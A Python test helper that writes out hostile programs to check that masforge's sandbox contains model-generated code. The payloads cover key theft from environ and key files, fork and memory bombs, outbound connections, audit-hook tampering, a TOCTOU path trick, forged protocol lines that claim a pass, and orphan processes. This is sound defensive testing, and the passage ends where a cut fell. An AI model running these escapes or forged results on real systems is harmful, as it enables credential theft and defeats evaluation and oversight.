"""Hostile programs and the host-side checks that prove the sandbox contained them.

A test and benchmark helper (``tests/test_sandbox_hostile.py``, ``bench/attacks.py``); never imported by
production code. Each `Attack` is one kind of hostile program, written twice: as a code genome's
``forward`` and as the code answer of a code task. Running one gives an `Outcome`: the failure kind
masforge reported for that candidate and the escapes the host saw (target: none). An escape is a
fact observed from outside: a file that appeared outside the run directory, a connection that
reached a listener, a planted key found in what the candidate returned or printed, a sandbox
process still alive after its run, or parent CPU burnt by a tool call.
"""

from __future__ import annotations

import os
import re
import shutil
import socket
import sys
import tempfile
import textwrap
import threading
import time
import uuid
from dataclasses import dataclass, field
from typing import Any

from masforge.sandbox.isolation import _process_uids, isolation

IDENTIFY = (
    "import os as _os\n"
    "print(f\"SANDBOX-ID pid={_os.getpid()} ns={_os.readlink('/proc/self/ns/pid')} uid={_os.getuid()} "
    "token=@TOKEN@\", flush=True)\n"
)
"""Code that prints who the sandboxed process is, for `survivors` (put it first in a program)."""

_ID = re.compile(r"SANDBOX-ID pid=(\d+) ns=(\S+) uid=(\d+)")


def _alive(pid: int) -> bool:
    try:
        _, zombie = _process_uids(str(pid))
    except (OSError, ValueError):
        return False
    return not zombie


def _pgid(pid: int) -> int | None:
    try:
        with open(f"/proc/{pid}/stat", "rb") as fh:
            return int(fh.read().rsplit(b")", 1)[1].split()[2])
    except (OSError, ValueError, IndexError):
        return None


def _find_survivors(pid: int, ns: str, uid: int) -> list[int]:
    iso = isolation()
    root = os.geteuid() == 0
    found = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        other = int(entry.name)
        if other == os.getpid() or not _alive(other):
            continue
        try:
            uids, _ = _process_uids(entry.name)
        except (OSError, ValueError):
            continue
        if iso.pid_namespace:
            try:
                same = os.readlink(f"/proc/{other}/ns/pid") == ns
            except OSError:
                continue
            if same and (not root or uid in uids):
                found.append(other)
        elif (root and uid in uids) or other == pid or _pgid(other) == pid:
            found.append(other)
    return found


def survivors(printed: str, grace_s: float = 3.0) -> list[int]:
    """Host pids of processes of the run that printed `IDENTIFY`, still alive after ``grace_s``.

    With a PID namespace a process belongs to the run when it is in that namespace (and, as root,
    runs as the run's uid, so a recycled namespace number does not count); without one, when it is
    the run's process, in its process group or (as root) runs as its uid.
    """
    match = _ID.search(printed)
    if match is None:
        raise ValueError("the program did not print its SANDBOX-ID line (put IDENTIFY first)")
    pid, ns, uid = int(match.group(1)), match.group(2), int(match.group(3))
    deadline = time.monotonic() + grace_s
    while True:  # a SIGKILLed namespace takes a moment to be torn down
        found = _find_survivors(pid, ns, uid)
        if not found or time.monotonic() >= deadline:
            return found
        time.sleep(0.05)


# --------------------------------------------------------------------------------------------------
# the attacks


@dataclass
class Probe:
    """Host-side state of one attack run: unique names to look for and what to plant."""

    token: str = field(default_factory=lambda: uuid.uuid4().hex[:12])
    key: str = field(default_factory=lambda: "sk-planted-" + uuid.uuid4().hex)
    port: int = 0
    key_file: str = ""
    run_files: list[str] = field(default_factory=list)
    unix_socket: str = ""
    abstract_socket: str = ""

    def plant_run_files(self, directories: list[str]) -> list[str]:
        """A run folder (ledger, archive git data, index) holding the key, in each of ``directories``; returns the
        folders made (the caller removes them)."""
        made = []
        for directory in directories:
            run = os.path.join(directory, f"masforge-run-{self.token}")
            for rel in ("ledger.jsonl", "archive/.git/HEAD", "archive/.masforge-index.sqlite"):
                path = os.path.join(run, rel)
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w", encoding="utf-8") as fh:
                    fh.write(f'{{"key": "{self.key}"}}\n')
                self.run_files.append(path)
            for root, dirs, _ in os.walk(run):  # world-readable, as a run folder usually is
                for d in dirs:
                    os.chmod(os.path.join(root, d), 0o755)
            os.chmod(run, 0o755)
            made.append(run)
        return made

    def plant_key_file(self, directory: str) -> None:
        """A private (0600) file holding the key, as a provider key file would be."""
        self.key_file = os.path.join(directory, f"masforge-key-{self.token}")
        fd = os.open(self.key_file, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        with os.fdopen(fd, "w") as fh:
            fh.write(self.key)

    def outside_paths(self) -> list[str]:
        """Places outside the run directory a program might try to write to."""
        return [f"/tmp/masforge-escape-{self.token}", f"/var/tmp/masforge-escape-{self.token}",
                f"/dev/shm/masforge-escape-{self.token}", os.path.join(os.getcwd(), f"masforge-escape-{self.token}")]

    def fill(self, template: str) -> str:
        return (template.replace("@TOKEN@", self.token).replace("@PORT@", str(self.port))
                .replace("@PATHS@", repr(self.outside_paths())).replace("@PARENT@", str(os.getpid()))
                .replace("@KEYFILE@", repr(self.key_file)).replace("@RUNFILES@", repr(self.run_files))
                .replace("@UNIX@", repr(self.unix_socket)).replace("@ABSTRACT@", repr(self.abstract_socket)))


@dataclass(frozen=True)
class Attack:
    """One hostile program: ``body`` (statements run inside ``forward`` / as the code answer)."""

    name: str
    what: str
    body: str
    kinds: frozenset[str]
    """Acceptable failure kinds (``blocked``, ``timeout``, ...; ``wrong``: ran but answered nothing useful)."""
    timeout_s: float = 3.0
    tool_calls: bool = False
    """Uses ``tool()`` (only meaningful as a code genome, where tools exist)."""
    needs_private_fs: bool = False
    """Gets past the audit hook (``os.mkfifo``, ``dir_fd``, reading files and native code are not audited): only the
    read-only view and private /tmp of bubblewrap contain it; without them it reaches the host's files."""


_WRITE_OUTSIDE = """
import os
hits, last = [], None
for p in @PATHS@:
    for how in ("open", "os.open", "mkfifo", "dir_fd", "symlink"):
        target = p + "-" + how
        try:
            if how == "open":
                open(target, "w").write("x")
            elif how == "os.open":
                os.close(os.open(target, os.O_WRONLY | os.O_CREAT, 0o666))
            elif how == "mkfifo":
                os.mkfifo(target)
            elif how == "dir_fd":
                fd = os.open(os.path.dirname(target), os.O_RDONLY)
                os.close(os.open(os.path.basename(target), os.O_WRONLY | os.O_CREAT, 0o666, dir_fd=fd))
            else:
                os.symlink("/etc/passwd", target)
            hits.append(target)
        except Exception as exc:
            last = exc
if hits:
    raise RuntimeError("wrote (inside the sandbox's own view) " + repr(hits))
raise last
"""

_NETWORK = """
import socket
last = None
for host in ("127.0.0.1", "10.0.2.2", "1.1.1.1"):
    try:
        socket.create_connection((host, @PORT@), timeout=1).sendall(b"escape @TOKEN@")
    except OSError as exc:
        last = exc
try:
    socket.getaddrinfo("example.com", 80)
except OSError as exc:
    last = exc
raise last
"""

_READ_KEYS = """
import os, glob
found = [f"{k}={v}" for k, v in os.environ.items()]
paths = ["/proc/@PARENT@/environ", "/proc/1/environ", "/proc/self/environ", "/proc/@PARENT@/cmdline",
         @KEYFILE@] + glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ")
for path in paths:
    try:
        found.append(open(path, "rb").read().decode("latin-1"))
    except Exception:
        pass
print("\\n".join(found))
answer = "\\n".join(found)
"""

_FORK_BOMB = """
import os
while True:
    os.fork()
"""

_THREAD_BOMB = """
import threading, time
threads = []
while True:
    t = threading.Thread(target=time.sleep, args=(100,))
    t.start()
    threads.append(t)
"""

_MEMORY_BOMB = """
chunks = []
while True:
    chunks.append(bytearray(50 * 1024 * 1024))
"""

_INFINITE_LOOP = """
while True:
    pass
"""

_OUTPUT_BOMB = """
import sys
line = "x" * (1 << 20)
for _ in range(5 * 1024):
    sys.stdout.write(line)
"""

_SUBPROCESS = """
import subprocess, os
last = None
for attempt in (lambda: subprocess.Popen(["sleep", "1000"]), lambda: os.system("sleep 1000 &"),
                lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}),
                lambda: os.execv("/bin/sleep", ["sleep", "1000"])):
    try:
        attempt()
    except PermissionError as exc:
        last = exc
raise last
"""

_IGNORE_SIGTERM = """
import signal, time
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
    signal.signal(s, signal.SIG_IGN)
while True:
    time.sleep(0.1)
"""

_TAMPER_FRAMES = """
import sys, builtins, posixpath, os, signal
# switch off anything that looks like a switch in any frame or module global the code can reach
frame = sys._getframe()
while frame is not None:
    for scope in (frame.f_locals, frame.f_globals):
        for name, value in list(scope.items()):
            if type(value) is dict:
                for k in ("off", "disabled", "network"):
                    value[k] = True
            if name.startswith("_ALLOWED") or name in ("_BLOCKED", "_WATCHED"):
                frame.f_globals[name] = type("Everything", (), {"__contains__": lambda s, x: True})()
    frame = frame.f_back
builtins.isinstance = lambda *a: False
builtins.issubclass = lambda *a: False
posixpath.realpath = lambda p, *a, **k: os.getcwd() + "/inside"
os.path.realpath = posixpath.realpath
signal.SIGKILL = 0
os.system("sleep 1000 &")
"""

_TAMPER_HOOK_FRAME = """
import os
last = None
try:
    os.remove("/etc/masforge-nonexistent-@TOKEN@")
except PermissionError as exc:
    # the traceback of a blocked call reaches the audit hook's own frame: rewrite whatever it holds
    last, tb = exc, exc.__traceback__
    while tb is not None:
        for value in list(tb.tb_frame.f_locals.values()):
            for cell in getattr(value, "__closure__", None) or ():
                try:
                    content = cell.cell_contents
                except ValueError:
                    continue
                if type(content) is str:
                    cell.cell_contents = "/"
                elif type(content) in (frozenset, set, dict):
                    cell.cell_contents = type(content)()
            if type(value) in (dict, set, list):
                value.clear()
        tb.tb_frame.f_locals.update({k: "/" for k, v in tb.tb_frame.f_locals.items() if type(v) is str})
        tb = tb.tb_next
hits = []
for p in @PATHS@:
    try:
        with open(p + "-hookframe", "w") as fh:
            fh.write("x")
        hits.append(p)
    except OSError as exc:
        last = exc
try:
    os.system("sleep 1000 &")
except PermissionError as exc:
    last = exc
if hits:
    raise RuntimeError("wrote (inside the sandbox's own view) " + repr(hits))
raise last
"""

_TAMPER_CTYPES = """
import importlib.util, sys, glob
hits, last = [], None
for name in ("ctypes", "_ctypes"):
    try:
        __import__(name)
        hits.append(name)
    except ImportError as exc:
        last = exc
for so in glob.glob(sys.base_prefix + "/lib/python3*/lib-dynload/_ctypes*.so"):
    try:
        spec = importlib.util.spec_from_file_location("_ctypes", so)
        importlib.util.module_from_spec(spec)
        hits.append(so)
    except ImportError as exc:
        last = exc
if hits:
    raise RuntimeError("loaded " + repr(hits))
raise last
"""

_TAMPER_SUBCLASSES = """
import sys
hits, last = [], None
for cls in object.__subclasses__():
    init = getattr(cls, "__init__", None)
    scope = getattr(init, "__globals__", None)
    if type(scope) is dict and "system" in scope:
        try:
            scope["system"]("sleep 1000 &")
            hits.append("system via " + cls.__name__)
        except PermissionError as exc:
            last = exc
    if cls.__name__ in ("BuiltinImporter", "ExtensionFileLoader"):
        try:
            spec = sys.modules["_posixsubprocess"].__spec__
            module = spec.loader.create_module(spec)
            module.fork_exec
            hits.append("fork_exec via " + cls.__name__)
        except ImportError as exc:
            last = exc
try:
    import gc
    for obj in gc.get_objects():
        closure = getattr(obj, "__closure__", None)
        if closure and getattr(obj, "__name__", "") == "hook":
            for cell in closure:
                cell.cell_contents = frozenset()
            hits.append("hook closure")
except PermissionError as exc:
    last = exc
if hits:
    raise RuntimeError("tampered: " + repr(hits))
raise last
"""

_TAMPER_TOCTOU = """
import os
class Flip:
    # answers differently to the audit hook and to the operation: a gap only the OS layers close
    def __init__(self, answers):
        self.answers = list(answers)
    def __fspath__(self):
        return self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
hits, last = [], None
for p in @PATHS@:
    for first, second in ((p + "-toctou-a", "inside.txt"), ("inside.txt", p + "-toctou-b")):
        for how in ("os.open", "open"):
            try:
                if how == "os.open":
                    os.close(os.open(Flip([first, second]), os.O_WRONLY | os.O_CREAT, 0o644))
                else:
                    open(Flip([first, second]), "w").close()
            except OSError as exc:
                last = exc
            if os.path.exists(p + "-toctou-a") or os.path.exists(p + "-toctou-b"):
                hits.append(p)
if hits:
    raise RuntimeError("wrote (inside the sandbox's own view) " + repr(sorted(set(hits))))
raise last
"""

_READ_RUN_FILES = """
found = []
for path in @RUNFILES@:
    try:
        found.append(open(path).read())
    except OSError:
        pass
print("\\n".join(found))
answer = "\\n".join(found)
"""

_UNIX_SOCKET = """
import socket
reached, last = [], None
for address in (@UNIX@, "\\0" + @ABSTRACT@):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(address)
        reached.append(address)
    except OSError as exc:
        last = exc
try:  # native code: libc's socket() and connect() through cffi's backend, which no audit hook sees
    import _cffi_backend as B
    lib = B.load_library(None)
    int_t = B.new_primitive_type("int")
    char_p = B.new_pointer_type(B.new_primitive_type("char"))
    sock = lib.load_function(B.new_function_type((int_t, int_t, int_t), int_t, False), "socket")
    conn = lib.load_function(B.new_function_type((int_t, char_p, int_t), int_t, False), "connect")
    for raw in (@UNIX@.encode(), b"\\0" + @ABSTRACT@.encode()):
        addr = (1).to_bytes(2, "little") + raw + b"\\0" * (108 - len(raw))
        if conn(sock(1, 1, 0), B.newp(B.new_array_type(char_p, len(addr)), addr), 2 + len(raw)) == 0:
            reached.append(raw)
except ImportError:
    pass
if reached:
    raise RuntimeError("connected to " + repr(reached))
raise last
"""

_FORGE_PASS = """
import json, os
# Every line the sandbox protocol knows, written to every descriptor this process has, then out without a word.
lines = [{"type": "result", "ok": True, "value": 42, "error": None, "error_kind": None, "traceback": None},
         {"r": 1, "ok": True, "value": 42, "names": {}}, {"rpc_reply": {"ok": True, "result": 42}}]
data = b"".join(json.dumps(line).encode() + b"\\n" for line in lines)
for fd in range(3, 256):
    try:
        os.write(fd, data)
    except OSError:
        pass
answer = 42
os._exit(0)
"""

_FORGE_FATAL = """
import json, os
# The set-up failure the sandbox reports when it cannot start: three of these in a row were an outage.
data = json.dumps({"type": "fatal", "error": "provider outage"}).encode() + b"\\n"
for fd in range(3, 256):
    try:
        os.write(fd, data)
    except OSError:
        pass
os._exit(70)
"""

_CALCULATOR_BOMB = """
answers = [tool("calculator", "((9**99)**999)**99") for _ in range(7)]
bombs = ("9**9**9**9", "(2**999)**999", "round(5, -10**9)", "(10**999)*(10**999)*(10**999)*(10**999)*(10**999)")
answers += [tool("calculator", e) for e in bombs]
answer = " | ".join(answers)
"""

_TOOL_FLOOD = """
for i in range(100000):
    tool("calculator", "1 + 1")
"""

ATTACKS: tuple[Attack, ...] = (
    Attack("network", "connect to a listener on the host, resolve a name", _NETWORK, frozenset({"blocked"})),
    Attack("write-outside", "create files, fifos, symlinks outside the run directory (also via dir_fd)",
           _WRITE_OUTSIDE, frozenset({"blocked", "exception"}), needs_private_fs=True),
    Attack("read-keys", "read keys from the environment, /proc/*/environ and a key file of the parent",
           _READ_KEYS, frozenset({"wrong", "blocked", "exception"})),
    Attack("fork-bomb", "os.fork() in a loop", _FORK_BOMB, frozenset({"blocked"})),
    Attack("thread-bomb", "threads until the process limit", _THREAD_BOMB, frozenset({"exception", "memory"})),
    Attack("memory-bomb", "allocate 50 MB at a time forever", _MEMORY_BOMB, frozenset({"memory"}), timeout_s=20.0),
    Attack("infinite-loop", "while True: pass", _INFINITE_LOOP, frozenset({"timeout", "cpu"}), timeout_s=1.5),
    Attack("output-bomb", "print 5 GB", _OUTPUT_BOMB, frozenset({"output"}), timeout_s=30.0),
    Attack("subprocess", "Popen, os.system, posix_spawn, exec of a long sleep", _SUBPROCESS, frozenset({"blocked"})),
    Attack("ignore-sigterm", "ignore SIGTERM/SIGINT/SIGHUP/SIGXCPU and sleep", _IGNORE_SIGTERM,
           frozenset({"timeout"}), timeout_s=1.5),
    Attack("tamper-frames", "walk frames and globals to switch the audit hook off, patch builtins and "
           "os.path, then os.system", _TAMPER_FRAMES, frozenset({"blocked", "exception"})),
    Attack("tamper-hook-frame", "rewrite the closures and locals of the audit hook's frame, reached through the "
           "traceback of a blocked call, then write outside and os.system", _TAMPER_HOOK_FRAME, frozenset({"blocked"})),
    Attack("tamper-ctypes", "load ctypes / _ctypes directly from its .so", _TAMPER_CTYPES, frozenset({"blocked"})),
    Attack("tamper-subclasses", "reach os.system, _posixsubprocess and the hook via __subclasses__ and gc",
           _TAMPER_SUBCLASSES, frozenset({"blocked"})),
    Attack("tamper-toctou", "write through a path object whose __fspath__ answers differently on each call",
           _TAMPER_TOCTOU, frozenset({"blocked", "exception"})),
    Attack("read-run-files", "read the run's ledger, archive git data and index (beside the installation and in "
           "the host's temp folder)", _READ_RUN_FILES, frozenset({"wrong", "exception"}), needs_private_fs=True),
    Attack("unix-socket", "connect to a host Unix-socket service (a file and an abstract name), also with native "
           "code through cffi's backend, which the audit hook does not see", _UNIX_SOCKET,
           frozenset({"blocked", "exception"}), needs_private_fs=True),
    Attack("forge-pass", "write result lines of the sandbox protocol to every descriptor, then exit: claim a pass",
           _FORGE_PASS, frozenset({"output", "killed", "exception", "wrong"})),
    Attack("forge-fatal", "write the sandbox's set-up failure line to every descriptor and exit 70: claim an "
           "infrastructure failure", _FORGE_FATAL, frozenset({"output", "killed", "exception"})),
    Attack("calculator-bomb", "((9**99)**999)**99 seven times and other huge powers via tool()",
           _CALCULATOR_BOMB, frozenset({"wrong"}), tool_calls=True),
    Attack("tool-flood", "100000 tool() calls in one forward", _TOOL_FLOOD, frozenset({"exception"}),
           tool_calls=True),
)


def genome_code(attack: Attack, probe: Probe) -> str:
    """The attack as a code genome (``forward`` returns ``answer`` if the body sets it)."""
    body = textwrap.indent(probe.fill(IDENTIFY + "answer = 'nothing'\n" + attack.body.strip("\n")), "    ")
    return f"def forward(inputs):\n{body}\n    return {{'answer': str(answer)}}\n"


def answer_code(attack: Attack, probe: Probe) -> str:
    """The attack as the code answer of a code task (a fenced block, as a model writes it)."""
    return f"```python\n{probe.fill(IDENTIFY)}answer = 'nothing'\n{probe.fill(attack.body).strip()}\n```"


BENIGN_GENOME = "def forward(inputs):\n    return {'answer': tool('calculator', '6 * 7')}\n"
WRITER_GENOME = "def forward(inputs):\n    return {'answer': llm(inputs['question'])}\n"
BENIGN_ANSWER = "```python\ndef add(a, b):\n    return a + b\n```"
BENIGN_TEST = "assert add(2, 3) == 5\n"


@dataclass
class Outcome:
    """What happened to one hostile candidate."""

    attack: str
    form: str
    """``genome`` (a code genome's forward) or ``answer`` (the code answer of a code task)."""
    kind: str
    """The failure kind masforge reported for it (``wrong``: it ran and scored 0)."""
    error: str
    escapes: list[str]
    seconds: float
    score: float = 0.0
    benign_ok: bool = True
    """The run went on: the benign candidate / example evaluated after it scored 1."""

    @property
    def contained(self) -> bool:
        return not self.escapes and self.score == 0.0


class Listener:
    """A TCP listener on the loopback interface, and Unix-socket listeners (a file in a private folder of the host's
    temp folder, an abstract name), that record whether anything connected."""

    def __init__(self, probe: Probe | None = None) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.setblocking(False)
        self.port = self.sock.getsockname()[1]
        self.unix: list[tuple[str, socket.socket]] = []
        self._dir: str | None = None
        if probe is not None:
            self._dir = tempfile.mkdtemp(prefix="masforge-service-")
            os.chmod(self._dir, 0o755)  # a service socket anyone may use, as a database's often is
            probe.unix_socket = os.path.join(self._dir, "service.sock")
            probe.abstract_socket = f"masforge-service-{probe.token}"
            for address, shown in ((probe.unix_socket, probe.unix_socket),
                                   ("\0" + probe.abstract_socket, "@" + probe.abstract_socket)):
                listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                listener.bind(address)
                listener.listen(16)
                listener.setblocking(False)
                self.unix.append((shown, listener))
            os.chmod(probe.unix_socket, 0o777)

    def connected(self) -> list[str]:
        """Where something connected: ``127.0.0.1:<port>`` and Unix-socket addresses."""
        found = []
        for shown, sock in [(f"127.0.0.1:{self.port}", self.sock), *self.unix]:
            try:
                conn, _ = sock.accept()
            except BlockingIOError:
                continue
            conn.close()
            found.append(shown)
        return found

    def close(self) -> None:
        self.sock.close()
        for _, sock in self.unix:
            sock.close()
        if self._dir is not None:
            shutil.rmtree(self._dir, ignore_errors=True)


class SandboxRecorder:
    """Keeps every `SandboxResult` (with its code) of the real evaluation path, for host-side checks."""

    def __init__(self) -> None:
        self.runs: list[tuple[str, Any]] = []
        self._lock = threading.Lock()
        self._saved: list[tuple[Any, str, Any]] = []

    def __enter__(self) -> SandboxRecorder:
        import masforge.execution.code as code_module
        import masforge.sandbox.runner as sandbox_module

        original = sandbox_module.run_python

        def recording(code: str, **kwargs: Any) -> Any:
            result = original(code, **kwargs)
            with self._lock:
                self.runs.append((code, result))
            return result

        for module in (sandbox_module, code_module):
            self._saved.append((module, "run_python", module.run_python))
            module.run_python = recording  # type: ignore[attr-defined]
        return self

    def __exit__(self, *exc: object) -> None:
        for module, name, value in reversed(self._saved):
            setattr(module, name, value)
        self._saved.clear()

    def seen(self, token: str) -> str:
        """Everything the runs whose code holds ``token`` returned, printed or raised."""
        parts = []
        for code, r in self.runs:
            if token in code:
                parts += [str(r.value), r.stdout, r.stderr, str(r.error), str(r.traceback)]
        return "\n".join(parts)


def escapes(attack: Attack, probe: Probe, listener: Listener, seen: str, cpu_s: float) -> list[str]:
    """Escapes the host observes after ``attack`` ran (``seen``: everything the candidate returned/printed)."""
    found = []
    for path in probe.outside_paths():
        directory, prefix = os.path.split(path)
        try:
            names = os.listdir(directory)
        except OSError:
            continue
        for name in names:
            if name.startswith(prefix):
                found.append(f"file {os.path.join(directory, name)}")
                try:
                    os.unlink(os.path.join(directory, name))
                except OSError:
                    pass
    found += [f"connection to {where}" for where in listener.connected()]
    if probe.key in seen:
        found.append("planted key returned")
    if "SANDBOX-ID" in seen:
        alive = survivors(seen)
        if alive:
            found.append(f"processes alive after the run: {alive}")
    else:
        found.append("the program never ran (no SANDBOX-ID line): containment not shown")
    if attack.tool_calls and cpu_s > 5.0:
        found.append(f"tool calls burnt {cpu_s:.1f} s of parent CPU")
    return found


def _kind_of(error: str | None, error_kind: str | None, score: float) -> str:
    if error_kind is None and error is None:
        return "wrong" if score < 1.0 else "ok"
    match = re.search(r"code genome failed \((\w+)\)", error or "")
    if match:
        return match.group(1)
    return (error_kind or "exception").removeprefix("code_")


class _Factory:
    """A system factory for `Evaluator.evaluate`: the code genome with the attack's own limits."""

    def __init__(self, genome: Any, limits: Any) -> None:
        self.genome, self.limits = genome, limits
        self.id, self.name, self.inputs = genome.id, genome.name, genome.inputs

    def __call__(self, client: Any) -> Any:
        from masforge.execution.code import CodeSystem

        return CodeSystem(self.genome, client, limits=self.limits)


def _run_genome(attack: Attack, probe: Probe, recorder: SandboxRecorder) -> tuple[float, str, str | None, str]:
    from masforge.evaluators.runner import Evaluator
    from masforge.evaluators.tasks import Task
    from masforge.genome.schema import Genome
    from masforge.lm.client import LMClient
    from masforge.sandbox.runner import SandboxLimits

    task = Task.from_callable(lambda outputs: float(outputs.get("answer") == "42"), examples=[{"question": "go"}],
                              name="hostile")
    client = LMClient({"worker": "fake"}, cache=False)
    limits = SandboxLimits(timeout_s=attack.timeout_s, memory_mb=512)
    evaluator = Evaluator(task, client, concurrency=1, example_timeout_s=120)
    genome = Genome(kind="code", name=f"hostile-{attack.name}", code=genome_code(attack, probe))
    ex = evaluator.evaluate(_Factory(genome, limits)).examples[0]
    benign = Genome(kind="code", name="benign", code=BENIGN_GENOME)
    benign_score = evaluator.evaluate(_Factory(benign, SandboxLimits(timeout_s=30))).score
    seen = "\n".join([str(ex.outputs), str(ex.error), str(ex.trace), recorder.seen(probe.token)])
    return ex.score, _kind_of(ex.error, ex.error_kind, ex.score), ex.error, seen + f"\nbenign={benign_score}"


def _run_answer(attack: Attack, probe: Probe, recorder: SandboxRecorder) -> tuple[float, str, str | None, str]:
    from masforge.evaluators.runner import Evaluator
    from masforge.evaluators.tasks import Example, Task
    from masforge.genome.schema import Genome
    from masforge.lm.client import LMClient

    hostile = answer_code(attack, probe)
    meta = {"test": "assert answer == 42, 'the hostile program finished'", "timeout_s": attack.timeout_s}
    examples = [Example("hostile", {"question": "hostile"}, "", meta),
                Example("benign", {"question": "benign"}, "", {"test": BENIGN_TEST, "timeout_s": 30.0})]
    task = Task("hostile-code", {"validation": examples}, "code")

    def responder(messages: Any, info: Any = None) -> str:
        return hostile if "hostile" in str(messages[-1]["content"]) else BENIGN_ANSWER

    client = LMClient({"worker": "fake"}, cache=False, responder=responder)
    writer = Genome(kind="code", name="writer", code=WRITER_GENOME)
    report = Evaluator(task, client, concurrency=2).evaluate(writer)
    ex, benign = report.examples
    details = ex.details
    kind = _kind_of(details.get("error"), details.get("error_kind"), ex.score) if ex.error is None else \
        _kind_of(ex.error, ex.error_kind, ex.score)
    seen = "\n".join([str(ex.outputs), str(ex.error), str(details), recorder.seen(probe.token)])
    return ex.score, kind, str(details.get("error") or ex.error or ""), seen + f"\nbenign={benign.score}"


def run_attack(attack: Attack, form: str) -> Outcome:
    """Run ``attack`` as a code genome (``form="genome"``) or a code answer (``"answer"``) through the real
    evaluation path, with a key planted in the parent's environment (where a provider key lives), then
    check the host for escapes. A benign candidate / example evaluated right after must still score 1."""
    probe = Probe()
    listener = Listener(probe)
    probe.port = listener.port
    keys = tempfile.mkdtemp(prefix="masforge-keys-")
    probe.plant_key_file(keys)
    runs = probe.plant_run_files(_run_file_places())
    os.environ["MASFORGE_PLANTED_KEY"] = probe.key
    cpu0 = time.process_time()
    start = time.monotonic()
    try:
        with SandboxRecorder() as recorder:
            runner = _run_genome if form == "genome" else _run_answer
            score, kind, error, seen = runner(attack, probe, recorder)
    finally:
        os.environ.pop("MASFORGE_PLANTED_KEY", None)
        for folder in [keys, *runs]:
            shutil.rmtree(folder, ignore_errors=True)
    seconds = time.monotonic() - start
    cpu = time.process_time() - cpu0
    try:
        found = escapes(attack, probe, listener, seen, cpu)
    finally:
        listener.close()
    if score > 0:
        found.append(f"scored {score:g}: claimed a pass it did not earn")
    if kind in ("sandbox", "unscored"):
        found.append("claimed a failure of the infrastructure (left unscored)")
    benign_ok = seen.endswith("benign=1.0")
    return Outcome(attack.name, form, kind, str(error or ""), found, seconds, score, benign_ok)


def _run_file_places() -> list[str]:
    """Where a run folder is planted: the host's temp folder, and beside masforge's Python environment (a clone's
    ``runs/`` sits next to its ``.venv``) when that folder is writable."""
    places = [tempfile.gettempdir()]
    beside = os.path.dirname(os.path.realpath(sys.prefix))
    if os.access(beside, os.W_OK) and beside not in places:
        places.append(beside)
    return places


def forms_of(attack: Attack) -> tuple[str, ...]:
    """Tool attacks only make sense as code genomes (a code answer has no ``tool()``)."""
    return ("genome",) if attack.tool_calls else ("genome", "answer")


# --------------------------------------------------------------------------------------------------
# orphans: SIGKILL masforge while its sandboxes run


ORPHAN_GENOME = '''"""
name: orphan-maker
description: ignores SIGTERM, starts threads and sleeps forever (must not outlive a killed masforge)
inputs: [question]
outputs: [answer]
"""


def forward(inputs):
    import signal
    import threading
    import time

    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(s, signal.SIG_IGN)
    for _ in range(4):
        threading.Thread(target=time.sleep, args=(1000,)).start()
    while True:
        time.sleep(0.05)
'''


def _children(pid: int) -> list[int]:
    out = []
    try:
        for tid in os.listdir(f"/proc/{pid}/task"):
            with open(f"/proc/{pid}/task/{tid}/children", encoding="ascii") as fh:
                out += [int(c) for c in fh.read().split()]
    except OSError:
        pass
    return out


def descendants(pid: int) -> list[int]:
    """Every live process below ``pid``."""
    found, queue = [], [pid]
    while queue:
        for child in _children(queue.pop()):
            found.append(child)
            queue.append(child)
    return found


def _cmdline(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            return fh.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


@dataclass
class KillOutcome:
    """One SIGKILL of ``masforge evaluate`` while sandboxes ran."""

    processes: int
    """Processes below masforge at the moment of the kill."""
    sandboxes: int
    """Of those, sandbox interpreters."""
    survivors: list[int]
    """Pids of any of them (or of anything in their namespaces) still alive afterwards."""


def kill_masforge_mid_run(workdir: str, *, env: dict[str, str] | None = None, wait_s: float = 90.0) -> KillOutcome:
    """Start ``masforge evaluate`` on `ORPHAN_GENOME` (2 examples at once), SIGKILL it once both sandboxes
    run, and report which of its processes outlived it (after a grace period for teardown)."""
    import subprocess
    import sys

    genome = os.path.join(workdir, "orphan_maker.py")
    with open(genome, "w", encoding="utf-8") as fh:
        fh.write(ORPHAN_GENOME)
    command = [sys.executable, "-m", "masforge", "evaluate", genome, "--task", "rg:basic_arithmetic",
               "--lm", "fake", "--limit", "2", "--concurrency", "2", "--no-cache"]
    proc = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            env={**os.environ, **(env or {})}, cwd=workdir, start_new_session=True)
    try:
        deadline = time.monotonic() + wait_s
        while True:
            tree = descendants(proc.pid)
            sandboxes = [p for p in tree if "_sandbox_child.py" in _cmdline(p) and not _children(p)]
            # running forward: the interpreter has its threads (lifeline + 4 sleepers)
            busy = [p for p in sandboxes if len(os.listdir(f"/proc/{p}/task")) >= 5] if sandboxes else []
            if len(busy) >= 2 or proc.poll() is not None or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        namespaces = set()
        for p in busy:
            try:
                namespaces.add(os.readlink(f"/proc/{p}/ns/pid"))
            except OSError:
                pass
        os.kill(proc.pid, 9)
        proc.wait()
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    own_ns = os.readlink("/proc/self/ns/pid")
    namespaces.discard(own_ns)
    end = time.monotonic() + 5.0
    while True:
        alive = [p for p in tree if _alive(p)]
        for entry in os.scandir("/proc"):
            if entry.name.isdigit() and namespaces and int(entry.name) not in alive:
                try:
                    if os.readlink(f"/proc/{entry.name}/ns/pid") in namespaces and _alive(int(entry.name)):
                        alive.append(int(entry.name))
                except OSError:
                    pass
        if not alive or time.monotonic() > end:
            break
        time.sleep(0.1)
    return KillOutcome(len(tree), len(busy), alive)


FILLER_GENOME = '''"""
name: disk-filler
description: writes 48 MB into its run directory, then sleeps (its run directory must not outlive a killed masforge)
